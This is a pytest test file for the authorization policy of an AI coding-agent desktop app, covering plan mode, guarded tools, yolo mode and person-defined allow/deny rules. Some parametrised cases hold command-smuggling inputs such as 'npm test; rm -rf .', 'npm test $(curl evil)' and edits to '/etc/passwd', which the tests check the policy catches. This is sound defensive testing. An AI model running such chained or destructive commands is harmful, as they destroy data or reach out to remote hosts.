"""Rules are asked in order, silence means a question, and no permission survives a denial."""

import itertools

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from tandem_desktop.domain.agent_protocol import ToolCall, ToolKind
from tandem_desktop.domain.authorization import (
    AuthContext,
    AuthorizationResult,
    PermissionRule,
    SessionPermissions,
    ToolCategory,
    ToolUse,
)
from tandem_desktop.domain.errors import ToolDeniedError
from tandem_desktop.domain.ids import ToolCallId
from tandem_desktop.policy.rules import (
    AuthorizationPolicy,
    GuardedToolsRule,
    PlanModeBlockRule,
    ReadOnlyToolRule,
    ToolIgnoreListRule,
    YoloModeRule,
    auth_context,
    standard_rules,
)
from tandem_desktop.policy.tools import EXECUTE_TOOLS, category_of, tool_use
from tandem_desktop.settings import Settings
from tests.support.tools import READ_ONLY_TOOLS, WRITE_TOOLS

ALLOW, CONFIRM, DENY = AuthorizationResult.ALLOW, AuthorizationResult.CONFIRM, AuthorizationResult.DENY
POLICY = AuthorizationPolicy()
EVERY_PERMISSION = {
    "yolo_mode": True,
    "tool_ignore_list": ("*", "bash", "write_file", "update_file", "gmail_send"),
    "rules": (PermissionRule(answer="allow"),),
}


def use(tool: str, *paths: str, command: str | None = None, kind: ToolKind = ToolKind.OTHER) -> ToolUse:
    return tool_use(ToolCall(id=ToolCallId("c"), tool=tool, kind=kind, paths=paths, command=command))


@pytest.mark.req("S1-13")
def test_rules_stand_in_the_promised_order() -> None:
    promised = [PlanModeBlockRule, ReadOnlyToolRule, YoloModeRule, ToolIgnoreListRule]
    assert [rule.priority for rule in promised] == [100, 200, 300, 310]
    order = [type(rule) for rule in standard_rules()]
    assert [rule for rule in order if rule in promised] == promised
    priorities = [rule.priority for rule in standard_rules()]
    assert priorities == sorted(set(priorities))


@pytest.mark.req("S1-13")
def test_the_lowest_number_that_answers_gives_the_answer_however_the_rules_were_handed_over() -> None:
    class Says:
        def __init__(self, priority: int, answer: AuthorizationResult | None) -> None:
            self.priority = priority
            self.answer = answer

        def evaluate(self, use: ToolUse, context: AuthContext) -> AuthorizationResult | None:
            return self.answer

        def reason(self, use: ToolUse, context: AuthContext) -> str:
            return str(self.priority)

    rules = [Says(1, None), Says(2, CONFIRM), Says(3, ALLOW)]
    for order in itertools.permutations(rules):
        assert AuthorizationPolicy(order).explain(use("x"), AuthContext()).reason == "2"  # type: ignore[arg-type]
    for order in itertools.permutations([*rules, Says(4, DENY)]):
        assert AuthorizationPolicy(order).evaluate(use("x"), AuthContext()) is DENY  # type: ignore[arg-type]


@pytest.mark.req("S1-14")
def test_there_are_three_answers_and_silence_means_ask() -> None:
    assert {result.value for result in AuthorizationResult} == {"allow", "confirm", "deny"}
    assert AuthorizationPolicy(()).evaluate(use("anything"), AuthContext()) is CONFIRM
    assert POLICY.evaluate(use("write_file"), AuthContext()) is CONFIRM
    assert POLICY.evaluate(use("bash"), AuthContext()) is CONFIRM
    assert POLICY.evaluate(use("mcp__weather__today"), AuthContext()) is CONFIRM


@pytest.mark.req("S1-03", "S1-11", "S1-12")
@pytest.mark.parametrize("tool", [*WRITE_TOOLS, *EXECUTE_TOOLS])
def test_in_plan_mode_writing_and_running_are_blocked_by_the_policy_and_not_only_by_words(tool: str) -> None:
    assert POLICY.evaluate(use(tool), AuthContext(plan_mode=True)) is DENY


@pytest.mark.req("S1-03")
def test_an_edit_in_plan_mode_is_allowed_only_into_the_shadow() -> None:
    assert POLICY.evaluate(use("edit", "a.py"), AuthContext(plan_mode=True, shadowed=True)) is ALLOW
    assert POLICY.evaluate(use("edit", "a.py"), AuthContext(plan_mode=True, shadowed=False)) is DENY


@pytest.mark.req("S1-10")
@pytest.mark.parametrize("tool", [*READ_ONLY_TOOLS, "todo_write", "present_plan"])
@pytest.mark.parametrize("plan_mode", [True, False])
def test_reading_and_planning_need_no_question(tool: str, plan_mode: bool) -> None:
    assert POLICY.evaluate(use(tool), AuthContext(plan_mode=plan_mode)) is ALLOW


@pytest.mark.req("S1-15")
@pytest.mark.parametrize("tool", [*WRITE_TOOLS, *EXECUTE_TOOLS, "gmail_send"])
def test_a_denial_beats_yolo_ignore_lists_and_allowing_rules(tool: str) -> None:
    assert POLICY.evaluate(use(tool), AuthContext(**EVERY_PERMISSION)) is ALLOW
    assert POLICY.evaluate(use(tool), AuthContext(plan_mode=True, only_look=True, **EVERY_PERMISSION)) is DENY
    assert POLICY.evaluate(use(tool), AuthContext(guarded_tools=(tool,), **EVERY_PERMISSION)) is DENY
    assert POLICY.evaluate(use(tool), AuthContext(plan_scope=("read",), **EVERY_PERMISSION)) is DENY
    rules = (PermissionRule(answer="allow"), PermissionRule(answer="deny", tool=tool))
    assert POLICY.evaluate(use(tool), AuthContext(**{**EVERY_PERMISSION, "rules": rules})) is DENY


@pytest.mark.req("S1-26b")
@pytest.mark.parametrize(
    "context",
    [
        AuthContext(yolo_mode=True),
        AuthContext(tool_ignore_list=("bash",)),
        AuthContext(rules=(PermissionRule(answer="allow", tool="bash"),)),
    ],
)
def test_outside_plan_mode_what_the_person_let_pass_skips_the_question(context: AuthContext) -> None:
    assert POLICY.evaluate(use("Bash", command="make"), context) is ALLOW
    assert POLICY.evaluate(use("Bash", command="make"), AuthContext()) is CONFIRM


@pytest.mark.req("S1-16", "S1-17")
def test_the_context_is_frozen_and_carries_what_the_rules_need() -> None:
    assert {"yolo_mode", "tool_ignore_list", "plan_mode"} <= set(AuthContext.model_fields)
    with pytest.raises(ValidationError):
        AuthContext().plan_mode = True
    session = SessionPermissions()
    assert (session.plan_mode, session.tool_ignore, session.yolo) == (False, (), False)


@pytest.mark.req("S1-18")
def test_a_denial_is_raised_where_no_answer_is_wanted() -> None:
    with pytest.raises(ToolDeniedError, match="'bash' is not available in Plan mode"):
        POLICY.require(use("bash"), AuthContext(plan_mode=True))
    assert POLICY.require(use("bash"), AuthContext()).result is CONFIRM


PLANNING = AuthContext(plan_mode=True, shadowed=True)
KNOWN_OUTSIDE = (
    *("web_post", "gmail_send", "git_push", "create_pull_request", "mcp__odoo__create_invoice", "calendar_list"),
    *("mcp__weather__today", "computercontroller__web_scrape", "extensionmanager__manage_extensions", "fetch"),
    *("mcp__github__delete_repo", "mcp.slack.list", "notion: update page", "browser/navigate", "unknown"),
)
KNOWN_INSIDE = (
    *("read", "grep", "glob", "list", "webfetch", "web_search", "think", "lsp", "edit", "write", "apply_patch"),
    *("task", "skill", "ToolSearch", "todowrite", "update_plan", "save_memory", "BashOutput", "tandem_present_plan"),
)
KINDS = [kind for kind in ToolKind if kind is not ToolKind.SWITCH_MODE]


@pytest.mark.req("S1-31")
@pytest.mark.parametrize("tool", KNOWN_OUTSIDE)
@pytest.mark.parametrize("kind", KINDS)
def test_a_tool_of_a_real_agent_that_reaches_out_is_not_let_through_unasked_in_plan_mode(
    tool: str, kind: ToolKind
) -> None:
    asked = use(tool, kind=kind)
    ruling = POLICY.explain(asked, PLANNING)
    assert ruling.result is CONFIRM
    assert ruling.is_silent
    assert POLICY.evaluate(asked, PLANNING.model_copy(update=EVERY_PERMISSION)) is CONFIRM


@pytest.mark.parametrize("tool", KNOWN_INSIDE)
def test_a_tool_of_a_real_agent_that_stays_in_the_shadow_needs_no_question(tool: str) -> None:
    assert POLICY.evaluate(use(tool, "a.py"), PLANNING) is ALLOW


_PARTS = st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=2, max_size=10)
_INVENTED = st.one_of(
    st.builds("{}_{}".format, _PARTS, _PARTS),
    st.builds("mcp__{}__{}".format, _PARTS, _PARTS),
    st.builds("{}.{}".format, _PARTS, _PARTS),
    st.builds("{}{}".format, _PARTS, _PARTS.map(str.title)),
)


@pytest.mark.req("S1-31")
@settings(max_examples=500)
@given(tool=_INVENTED, kind=st.sampled_from(KINDS), arguments=st.dictionaries(_PARTS, _PARTS, max_size=3))
def test_no_invented_tool_is_let_through_unasked_in_plan_mode(
    tool: str, kind: ToolKind, arguments: dict[str, str]
) -> None:
    asked = tool_use(ToolCall(id=ToolCallId("c"), tool=tool, kind=kind, arguments=arguments))
    assume(category_of(tool) in (ToolCategory.OTHER, ToolCategory.OUTSIDE))
    assert POLICY.evaluate(asked, PLANNING) is CONFIRM


@pytest.mark.parametrize(
    ("tool", "paths", "answer"),
    [
        ("mcp__files__edit", ("a.py",), CONFIRM),
        ("reformat", ("a.py",), ALLOW),
        ("reformat", ("/etc/passwd",), CONFIRM),
        ("reformat", ("../other/a.py",), CONFIRM),
        ("reformat", (), CONFIRM),
    ],
)
def test_an_unknown_tool_is_shown_to_stay_inside_only_by_paths_of_the_workspace(
    tool: str, paths: tuple[str, ...], answer: AuthorizationResult
) -> None:
    assert POLICY.evaluate(use(tool, *paths, kind=ToolKind.EDIT), PLANNING) is answer


@pytest.mark.req("S1-31")
def test_a_persons_rule_that_names_a_tool_decides_in_plan_mode_before_ours() -> None:
    invoices = use("mcp__odoo__create_invoice")
    for answer, expected in (("allow", ALLOW), ("ask", CONFIRM), ("deny", DENY)):
        given = PLANNING.model_copy(update={"rules": (PermissionRule(answer=answer, tool="mcp__odoo__*"),)})
        ruling = POLICY.explain(invoices, given)
        assert (ruling.result, ruling.is_silent) == (expected, False)


def test_an_agent_may_leave_a_plan_mode_of_its_own_and_enter_none() -> None:
    assert POLICY.evaluate(use("ExitPlanMode", kind=ToolKind.SWITCH_MODE), PLANNING) is ALLOW
    assert POLICY.evaluate(use("EnterPlanMode", kind=ToolKind.SWITCH_MODE), PLANNING) is DENY
    assert POLICY.evaluate(use("ExitPlanMode"), PLANNING.model_copy(update={"only_look": True})) is DENY


@pytest.mark.req("S3-37b")
@pytest.mark.parametrize(
    ("tool", "command", "planning"),
    [
        ("read", None, ALLOW),
        ("grep", None, ALLOW),
        ("bash", "ls", DENY),
        ("bash", "rm -r src", DENY),
        ("write", None, DENY),
    ],
)
def test_turning_plan_mode_on_leaves_only_the_tools_that_look(
    tool: str, command: str | None, planning: AuthorizationResult
) -> None:
    asked = use(tool, command=command)
    assert POLICY.evaluate(asked, AuthContext(plan_mode=True)) is planning
    assert POLICY.evaluate(asked, AuthContext()) in (ALLOW, CONFIRM)


@pytest.mark.req("S3-20")
def test_a_tool_outside_the_scope_is_refused_in_exactly_these_words() -> None:
    ruling = POLICY.explain(use("bash", command="ls"), AuthContext(plan_scope=("read", "write")))
    assert ruling.result is DENY
    assert ruling.reason == "Tool not available in plan scope. Only [read, write] are available."
    assert POLICY.evaluate(use("Read"), AuthContext(plan_scope=("read", "write"))) is ALLOW


@pytest.mark.req("S3-21")
def test_bash_is_in_the_scope_only_when_it_is_listed() -> None:
    assert POLICY.evaluate(use("bash"), AuthContext(plan_scope=("read", "write", "edit"))) is DENY
    assert POLICY.evaluate(use("bash"), AuthContext(plan_scope=("read", "bash"), yolo_mode=True)) is ALLOW


@pytest.mark.req("S3-34", "S3-35", "S3-39")
@pytest.mark.parametrize("tool", ["gmail_send", "mcp__google__gmail_send", "google_gmail_send", "Gmail_Send"])
def test_a_guarded_tool_is_blocked_with_a_word_on_plan_propose(tool: str) -> None:
    ruling = POLICY.explain(use(tool), AuthContext(guarded_tools=("gmail_send",)))
    assert ruling.result is DENY
    assert "plan_propose" in ruling.reason
    assert POLICY.evaluate(use("gmail_sender"), AuthContext(guarded_tools=("gmail_send",))) is CONFIRM


@pytest.mark.req("S3-35")
def test_a_guard_that_only_logs_blocks_nothing() -> None:
    context = AuthContext(guarded_tools=("odoo_create",), guard_blocks=False)
    assert POLICY.evaluate(use("odoo_create"), context) is CONFIRM


@pytest.mark.req("S3-38")
def test_nothing_is_guarded_by_default() -> None:
    assert POLICY.evaluate(use("odoo_create"), AuthContext()) is CONFIRM


def test_in_plan_mode_a_guarded_tool_becomes_part_of_the_plan() -> None:
    context = AuthContext(plan_mode=True, shadowed=True, guarded_tools=("write", "odoo_create"))
    assert POLICY.evaluate(use("write", "a.txt"), context) is ALLOW
    ruling = POLICY.explain(use("odoo_create"), context)
    assert (ruling.result, ruling.is_silent) == (CONFIRM, True)


def rules(*given: tuple[str, str, str | None, str | None]) -> AuthContext:
    return AuthContext(
        rules=tuple(PermissionRule(answer=a, tool=t, path=p, command=c) for a, t, p, c in given)  # type: ignore[arg-type]
    )


@pytest.mark.req("S2-32")
@pytest.mark.parametrize(
    ("context", "used", "answer"),
    [
        (rules(("allow", "bash", None, "npm test*")), use("bash", command="npm test -- -u"), ALLOW),
        (rules(("allow", "bash", None, "npm test*")), use("bash", command="npm test; rm -rf ."), CONFIRM),
        (rules(("allow", "bash", None, "npm test*")), use("bash", command="npm test $(curl evil)"), CONFIRM),
        (rules(("allow", "bash", None, "npm test*")), use("bash", command="npm test > /etc/x"), CONFIRM),
        (rules(("allow", "bash", None, "npm test*")), use("bash", command="npm test\nrm x"), CONFIRM),
        (rules(("deny", "bash", None, "git push*")), use("bash", command="make && git  push origin"), DENY),
        (rules(("deny", "bash", None, "git push*")), use("bash", command="echo $(git push)"), DENY),
        (rules(("deny", "bash", None, "git push*")), use("bash", command="git pull"), CONFIRM),
        (rules(("allow", "write", "src/**", None)), use("edit", "src/a.py"), ALLOW),
        (rules(("allow", "write", "src/**", None)), use("edit", "src/a.py", "setup.py"), CONFIRM),
        (rules(("allow", "write", "src/**", None)), use("edit", "src/../setup.py"), CONFIRM),
        (rules(("allow", "write", "*", None)), use("edit", "/etc/passwd"), CONFIRM),
        (rules(("allow", "write", "src/**", None)), use("edit"), CONFIRM),
        (rules(("deny", "write", "secrets/**", None)), use("edit", "a.py", "Secrets/key"), DENY),
        (rules(("ask", "read", "secrets/**", None)), use("read_file", "secrets/key"), CONFIRM),
        (rules(("ask", "read", "secrets/**", None)), use("read_file", "a.py"), ALLOW),
        (rules(("allow", "*", None, None), ("ask", "web*", None, None)), use("webfetch"), CONFIRM),
        (rules(("allow", "*", None, None)), use("webfetch"), ALLOW),
        (AuthContext(tool_ignore_list=("bash",)), use("write", "a.txt"), CONFIRM),
        (AuthContext(tool_ignore_list=("bash",)), use("Bash", command="ls"), ALLOW),
        (rules(("deny", "execute", None, None)), use("developer__shell", command="ls"), DENY),
        (rules(("deny", "bash", None, None)), use("edit", "a.py"), CONFIRM),
        (rules(("deny", "*", None, "git push*")), use("edit", "a.py"), CONFIRM),
        (rules(("allow", "bash", None, "npm test")), use("bash", command=" npm test\t"), ALLOW),
        (rules(("allow", "bash", None, "npm test")), use("bash"), CONFIRM),
        (rules(("allow", "BASH", None, "npm test")), use("Bash", command="npm test"), ALLOW),
        (rules(("allow", "WEB*", None, None)), use("webpush_hook"), ALLOW),
        (rules(("deny", "bash", None, " git  push*")), use("bash", command="git push origin"), DENY),
        (rules(("deny", "bash", None, "cd x && make")), use("bash", command="cd  x  &&  make"), DENY),
        (rules(("deny", "write", "Secrets/**", None)), use("edit", "secrets/key"), DENY),
        (rules(("deny", "write", "secrets/**", None)), use("edit", "./secrets/key"), DENY),
        (rules(("deny", "write", "/secrets", None)), use("edit", "./secrets"), DENY),
        (rules(("deny", "write", "secrets/**", None)), use("edit"), CONFIRM),
    ],
)
def test_a_persons_rules_are_strict_where_they_allow_and_generous_where_they_do_not(
    context: AuthContext, used: ToolUse, answer: AuthorizationResult
) -> None:
    assert POLICY.evaluate(used, context) is answer


@pytest.mark.parametrize(
    "context",
    [
        AuthContext(tool_ignore_list=("write",)),
        AuthContext(rules=(PermissionRule(answer="allow", tool="write"),)),
    ],
)
def test_a_permission_for_a_name_does_not_cover_what_only_goes_by_that_name(context: AuthContext) -> None:
    assert POLICY.evaluate(use("write", "a.txt"), context) is ALLOW
    assert POLICY.evaluate(use("write", "a.txt", command="rm -rf ."), context) is CONFIRM
    scope = AuthContext(plan_scope=("write",), yolo_mode=True)
    assert POLICY.evaluate(use("write", "a.txt"), scope) is ALLOW
    assert POLICY.evaluate(use("write", "a.txt", command="rm -rf ."), scope) is DENY


def test_a_persons_denial_and_question_hold_in_plan_mode_too() -> None:
    context = rules(("deny", "write", "secrets/**", None), ("ask", "write", None, None)).model_copy(
        update={"plan_mode": True, "shadowed": True}
    )
    assert POLICY.evaluate(use("edit", "secrets/key"), context) is DENY
    assert POLICY.evaluate(use("edit", "a.py"), context) is CONFIRM


@pytest.mark.parametrize(
    ("used", "context", "sentence"),
    [
        (
            use("bash"),
            AuthContext(only_look=True),
            "'bash' is not available: you were asked for advice, so you may read files and hand in your answer. "
            "Say in the answer what should be changed.",
        ),
        (
            use("bash"),
            AuthContext(plan_mode=True),
            "'bash' is not available in Plan mode. Describe what it should do as a step of your plan, and use "
            "present_plan or plan_propose when you are ready.",
        ),
        (
            use("EnterPlanMode", kind=ToolKind.SWITCH_MODE),
            PLANNING,
            "'EnterPlanMode' is not needed: you are in Plan mode, and what you change is staged for review. Go on.",
        ),
        (
            use("ExitPlanMode", kind=ToolKind.SWITCH_MODE),
            PLANNING,
            "The plan is with the person. Go on: what you change is staged for review.",
        ),
        (
            use("gmail_send"),
            AuthContext(guarded_tools=("gmail_send",)),
            "'gmail_send' is guarded: it may only be used through a plan. Propose one with plan_propose.",
        ),
        (
            use("bash"),
            AuthContext(rules=(PermissionRule(answer="ask"),)),
            "A rule in the person's settings decides on this use of 'bash'.",
        ),
        (use("edit", "a.py"), PLANNING, "It stays in the shadow until the plan is approved."),
        (use("read"), AuthContext(), "It only reads."),
        (use("present_plan"), AuthContext(), "It only plans."),
        (use("bash"), AuthContext(yolo_mode=True), "The person asked not to be asked."),
        (use("bash"), AuthContext(tool_ignore_list=("Bash",)), "The person asked not to be asked about this tool."),
        (use("bash"), AuthContext(), ""),
    ],
)
def test_each_answer_comes_with_the_sentence_of_the_rule_that_gave_it(
    used: ToolUse, context: AuthContext, sentence: str
) -> None:
    ruling = POLICY.explain(used, context)
    assert ruling.reason == sentence
    assert ruling.is_silent is (sentence == "")


def test_a_denial_says_what_to_do_instead() -> None:
    with pytest.raises(ToolDeniedError) as refusal:
        POLICY.require(use("bash"), AuthContext(plan_mode=True))
    assert refusal.value.next == "Go on without it, or put it into the plan."


@pytest.mark.parametrize(("tool", "answer"), [("read", ALLOW), ("present_plan", ALLOW), ("write", DENY), ("x", DENY)])
def test_an_advisor_may_read_and_hand_in_its_answer_and_nothing_else(tool: str, answer: AuthorizationResult) -> None:
    assert POLICY.evaluate(use(tool), AuthContext(only_look=True, yolo_mode=True)) is answer


@pytest.mark.parametrize(
    ("used", "context", "answer"),
    [
        (use("EnterPlanMode", kind=ToolKind.SWITCH_MODE), AuthContext(), CONFIRM),
        (use("bash", command="ls"), PLANNING, ALLOW),
        (use("mcp__weather__today"), AuthContext(plan_mode=True), CONFIRM),
        (use("write", "a.txt"), AuthContext(shadowed=True), CONFIRM),
        (use("mcp__files__get", kind=ToolKind.READ), AuthContext(), ALLOW),
        (use("present_plan"), AuthContext(plan_scope=("read",)), ALLOW),
        (use("read"), AuthContext(plan_scope=("READ",)), ALLOW),
    ],
)
def test_plan_mode_the_shadow_and_the_scope_each_decide_only_what_is_theirs(
    used: ToolUse, context: AuthContext, answer: AuthorizationResult
) -> None:
    assert POLICY.evaluate(used, context) is answer


def test_an_advisor_may_not_leave_a_plan_mode_of_its_own() -> None:
    leave = use("ExitPlanMode", kind=ToolKind.SWITCH_MODE)
    assert PlanModeBlockRule().evaluate(leave, PLANNING) is ALLOW
    assert PlanModeBlockRule().evaluate(leave, AuthContext(plan_mode=True, only_look=True)) is DENY


@pytest.mark.parametrize(
    ("tool", "context", "answer"),
    [
        ("read", AuthContext(plan_mode=True), DENY),
        ("read", AuthContext(shadowed=True), DENY),
        ("read", AuthContext(plan_mode=True, shadowed=True), None),
        ("gmail_read", AuthContext(plan_mode=True), None),
        ("gmail_read", AuthContext(), DENY),
        ("GMAIL_READ", AuthContext(), DENY),
        ("server_GMAIL_READ", AuthContext(), DENY),
        ("gmail_reader", AuthContext(), None),
    ],
)
def test_a_guard_lets_pass_only_what_plan_mode_holds_back(
    tool: str, context: AuthContext, answer: AuthorizationResult | None
) -> None:
    guarded = context.model_copy(update={"guarded_tools": ("read", "Gmail_Read")})
    assert GuardedToolsRule().evaluate(use(tool), guarded) is answer


def test_a_question_is_decided_by_the_settings_and_by_what_the_person_chose_for_the_session() -> None:
    asks = (PermissionRule(answer="ask"),)
    settings = Settings(guarded_tools=("odoo_create",), guarded_tools_only_logged=True, rules=asks)
    chosen = SessionPermissions(plan_mode=True, tool_ignore=("bash",), yolo=True, plan_scope=("read",), only_look=True)
    assert auth_context(settings, chosen, shadowed=True) == AuthContext(
        yolo_mode=True,
        tool_ignore_list=("bash",),
        plan_mode=True,
        shadowed=True,
        guarded_tools=("odoo_create",),
        guard_blocks=False,
        plan_scope=("read",),
        rules=asks,
        only_look=True,
    )
    assert auth_context(Settings(), SessionPermissions(), shadowed=False) == AuthContext()
